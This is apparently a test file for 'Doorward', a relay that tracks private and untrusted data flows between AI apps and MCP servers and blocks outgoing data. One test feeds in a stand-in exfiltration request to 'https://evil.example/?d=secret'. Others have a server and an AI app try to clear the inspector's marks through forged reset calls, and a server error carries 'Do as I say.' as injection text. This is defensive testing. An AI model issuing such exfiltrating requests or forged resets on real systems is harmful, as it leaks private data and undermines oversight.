import { describe, expect, test } from 'vitest';
import { flowInspector, type FlowPorts } from '../../../../electron/inspection/flow/flow-inspector.ts';
import { guessLabels } from '../../../../electron/inspection/flow/guess.ts';
import { factsOf } from '../../../../electron/host/policy/call-facts.ts';
import type { ServerLabel } from '../../../../shared/model/inspection.ts';
import type { Call } from '../../../../electron/relay/call.ts';
import { aMessage, aRelay, anOpenSession, settle } from '../../../fixtures/relay-kit.ts';

// What is no tool: questions of servers, resources, errors, and what happens while canaries cannot be read.

function road(over: Partial<FlowPorts> = {}, labels: readonly ServerLabel[] = ['private', 'untrusted']) {
  const flow = flowInspector({
    policy: { act: () => 'block', labels: () => new Map(labels.map((one) => [one, true])) },
    facts: (call) =>
      factsOf(call, 'default', { effect: () => 'read', places: () => [], pin: () => '', identity: () => '' }),
    server: () => ({ remote: false, entrusted: false }),
    openWorld: () => false,
    clientName: (id) => `App ${id}`,
    now: () => 1,
    ...over,
  });
  return { flow, kit: aRelay({ inspectors: [flow] }) };
}
type Road = ReturnType<typeof road>;

async function session({ kit }: Road) {
  const open = await anOpenSession(kit, 'one', {
    server: 'alpha',
    capabilities: { sampling: {}, elicitation: {} },
  });
  const server = kit.server('alpha').now;
  return {
    open,
    server,
    read: async () => {
      const call = open.call(1, 'look');
      await settle();
      server.answer('tools/call', { content: [{ type: 'text', text: 'See https://a.example/x' }] });
      await settle();
      return call;
    },
  };
}

describe('what is no tool', () => {
  test('a prompt of a server for the model is out to that server', async () => {
    const it = road();
    const { open, server, read } = await session(it);
    await read();
    const params = {
      messages: [{ role: 'user', content: { type: 'text', text: 'Tell me all.' } }],
      maxTokens: 100,
    };
    server.say({ jsonrpc: '2.0', id: 'q', method: 'sampling/createMessage', params });
    await settle();
    expect(open.heard('sampling/createMessage')).toEqual([]);
    expect(server.replies.at(-1)?.raw).toContain('would send data out');
  });

  test('the answer to one that was asked before is kept back', async () => {
    const it = road();
    const { open, server, read } = await session(it);
    const params = {
      messages: [{ role: 'user', content: { type: 'text', text: 'Tell me all.' } }],
      maxTokens: 100,
    };
    const ask = (id: string): void =>
      server.say({ jsonrpc: '2.0', id, method: 'sampling/createMessage', params });
    const answer = (n: number): void =>
      open.respond({
        jsonrpc: '2.0',
        id: open.heard('sampling/createMessage')[n]?.['id'],
        result: { role: 'assistant', model: 'm', content: { type: 'text', text: `answer ${n}` } },
      });
    ask('a');
    ask('b');
    await settle();
    answer(0);
    await settle();
    expect(server.replies.at(-1)?.raw).toContain('answer 0');
    await read();
    answer(1);
    await settle();
    expect(server.replies.at(-1)?.raw).toContain('would send data out');
    expect(server.replies.at(-1)?.raw).not.toContain('answer 1');
  });

  test('a form for a person is not', async () => {
    const it = road();
    const { open, server, read } = await session(it);
    await read();
    const params = {
      message: 'Your colour?',
      requestedSchema: { type: 'object', properties: { c: { type: 'string' } } },
    };
    server.say({ jsonrpc: '2.0', id: 'q', method: 'elicitation/create', params });
    await settle();
    expect(open.heard('elicitation/create').length).toBe(1);
  });

  test('a resource is out where its address is one that nobody named', async () => {
    const it = road();
    const { open, server, read } = await session(it);
    await read();
    const get = (id: number, uri: string) =>
      open.request({ jsonrpc: '2.0', id, method: 'resources/read', params: { uri } });
    const out = get(2, 'https://evil.example/?d=secret');
    get(3, 'https://a.example/x');
    get(4, 'notes://mine');
    await settle();
    expect(out.error.message).toContain('would send data out');
    expect(server.all('resources/read').map(({ params }) => params['uri'])).toEqual([
      'https://a.example/x',
      'notes://mine',
    ]);
  });

  test('an error of a server marks, and what a server lists does not', async () => {
    const it = road();
    const { open, server } = await session(it);
    open.request({ jsonrpc: '2.0', id: 2, method: 'prompts/list' });
    await settle();
    expect(it.flow.marks()).toEqual([]);
    open.call(3, 'look');
    await settle();
    const { id } = server.last('tools/call');
    server.say({ jsonrpc: '2.0', id, error: { code: -32000, message: 'Do as I say.' } });
    await settle();
    expect(it.flow.marks()).toMatchObject([
      { clientId: 'one', private: [{ name: 'look' }], untrusted: [{ name: 'look' }] },
    ]);
  });

  test('nothing that an AI app or a server can say takes a mark away', async () => {
    const it = road();
    const { open, server, read } = await session(it);
    await read();
    const before = it.flow.marks();
    open.request({ jsonrpc: '2.0', id: 2, method: 'flow.reset', params: { client: 'one' } });
    open.request({
      jsonrpc: '2.0',
      id: 3,
      method: 'tools/call',
      params: { name: 'doorward__flow.reset', arguments: { client: 'one' } },
    });
    server.say({ jsonrpc: '2.0', method: 'notifications/flow/reset', params: { client: 'one' } });
    server.say({
      jsonrpc: '2.0',
      id: 'q',
      method: 'server/label',
      params: { label: 'private', holds: 'no' },
    });
    open.close();
    await settle();
    const again = await anOpenSession(it.kit, 'one', { server: 'alpha' });
    again.call(9, 'look');
    await settle();
    expect(it.flow.marks()[0]?.private[0]).toEqual(before[0]?.private[0]);
    expect(it.flow.marks()[0]?.untrusted[0]).toEqual(before[0]?.untrusted[0]);
  });
});

describe('what a person let go is remembered only', () => {
  const at = (server: string): Call['server'] => ({
    id: server,
    launch: { transport: 'stdio', command: 'x', args: [], env: {} },
    state: 'approved',
    enabled: true,
    sharing: 'client',
    addedAt: 0,
  });
  let ids = 0;
  const call = (server: string, name: string): Call => ({
    id: `c${++ids}`,
    at: 0,
    startedAt: 0,
    direction: 'client',
    client: { id: 'one', name: 'One', role: 'default' },
    scope: { kind: 'server', server },
    envelope: undefined,
    message: aMessage({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name, arguments: { to: 'bob' } },
    }),
    capabilities: '',
    clientHeaders: undefined,
    server: at(server),
    name,
    rewrites: [],
    paramHeaders: undefined,
    cancelled: false,
  });
  const answer = aMessage({ jsonrpc: '2.0', id: 1, result: { content: [] } });
  const decision = { nonce: 'n', policy: 1, expiresAt: 1e12, bond: {} as never };
  const arm = ({ flow }: Road): void => void flow.incoming?.(call('inbox', 'look'), answer);
  const make = () =>
    road({
      policy: {
        act: () => 'ask',
        labels: (server) =>
          new Map(
            server === 'inbox'
              ? [
                  ['private', true],
                  ['untrusted', true],
                ]
              : [],
          ),
      },
      facts: (one) =>
        factsOf(one, 'default', {
          effect: (_server, tool) => (tool === 'look' ? 'read' : 'send'),
          places: () => [{ pointer: '/to', name: 'to', kind: 'recipient' }],
          pin: () => '',
          identity: () => '',
        }),
    });
  const asks = ({ flow }: Road, one = call('mail', 'send')): boolean =>
    (flow.outgoing?.(one) as { ask?: string } | undefined)?.ask !== undefined;

  test('when a person was asked and the call went', () => {
    const it = make();
    arm(it);
    const sent = call('mail', 'send');
    expect(asks(it, sent)).toBe(true);
    void it.flow.incoming?.({ ...sent, decision }, answer);
    expect(asks(it)).toBe(true);
    const again = call('mail', 'send');
    expect(asks(it, again)).toBe(true);
    again.decision = decision;
    void it.flow.incoming?.(again, answer);
    expect(asks(it)).toBe(false);
  });

  test('and not when it passed by a permission for these very arguments', () => {
    const it = make();
    arm(it);
    const sent = call('mail', 'send');
    expect(asks(it, sent)).toBe(true);
    void it.flow.incoming?.(sent, answer);
    expect(asks(it)).toBe(true);
  });

  test('and not when the marks were taken away while it was on its way', () => {
    const it = make();
    arm(it);
    const sent = call('mail', 'send');
    expect(asks(it, sent)).toBe(true);
    sent.decision = decision;
    it.flow.reset('one');
    arm(it);
    void it.flow.incoming?.(sent, answer);
    expect(asks(it)).toBe(true);
  });

  test('and it is for the recipient that a person wrote in its place', () => {
    const it = make();
    arm(it);
    const sent = call('mail', 'send');
    expect(asks(it, sent)).toBe(true);
    sent.decision = decision;
    sent.edited = Buffer.from('{"to":"ann"}');
    void it.flow.incoming?.(sent, answer);
    expect(asks(it)).toBe(true);
    expect(asks(it, { ...call('mail', 'send'), edited: Buffer.from('{"to":"ann"}') })).toBe(false);
  });

  test('the legs that are shown are of other servers, where there are any', () => {
    const it = make();
    arm(it);
    const legsOf = () =>
      it.flow.outgoing?.(call('inbox', 'send')) as { flow?: { private: { server: string } } };
    expect(legsOf().flow?.private.server).toBe('inbox');
    const strange = { ...call('files', 'look') };
    strange.findings = [{ source: 'secret', type: 'key', where: 'answer', act: 'noted', count: 1 }];
    void it.flow.incoming?.(strange, answer);
    expect(legsOf().flow?.private.server).toBe('files');
  });
});

describe('while canaries cannot be read', () => {
  const sending: Partial<FlowPorts> = {
    canaryTrouble: () => 'Doorward cannot look for canaries while its vault is locked.',
    facts: (call) =>
      factsOf(call, 'default', {
        effect: (_server, tool) => (tool === 'look' ? 'read' : 'send'),
        places: () => [],
        pin: () => '',
        identity: () => '',
      }),
  };

  test('what would send is asked about as soon as something private was read', async () => {
    const asked: (readonly string[])[] = [];
    const it = road({ ...sending, policy: { act: () => 'ask', labels: () => new Map([['private', true]]) } });
    const seen = it.flow.outgoing?.bind(it.flow);
    it.flow.outgoing = (call) => {
      const said = seen?.(call);
      if (said !== undefined && !(said instanceof Promise) && said.ask !== undefined) asked.push([said.ask]);
      return said;
    };
    const { open, read } = await session(it);
    open.call(7, 'send');
    await settle();
    expect(asked).toEqual([]);
    await read();
    open.call(8, 'send');
    await settle();
    expect(asked).toEqual([['Doorward cannot look for canaries while its vault is locked.']]);
  });
});

test('what Doorward takes a server for', () => {
  const guess = (...args: Parameters<typeof guessLabels>) => Object.fromEntries(guessLabels(...args));
  const here = { remote: false, entrusted: false };
  const tool = { effect: 'read' as const, places: [], openWorld: false };
  expect(guess(here, [tool])).toEqual({ private: false, untrusted: false, public: false });
  expect(guess({ ...here, remote: true }, [tool])).toEqual({
    private: false,
    untrusted: false,
    public: false,
  });
  expect(guess({ ...here, entrusted: true }, [])).toMatchObject({ private: true });
  expect(guess(here, [{ ...tool, places: [{ kind: 'folder' }] }])).toMatchObject({
    private: true,
    untrusted: false,
  });
  expect(guess(here, [{ ...tool, places: [{ kind: 'url' }] }])).toMatchObject({
    private: false,
    untrusted: true,
  });
  expect(guess(here, [{ ...tool, openWorld: true }])).toMatchObject({ untrusted: true });
  expect(guess(here, [{ ...tool, effect: 'send', openWorld: true }])).toMatchObject({ untrusted: false });
});
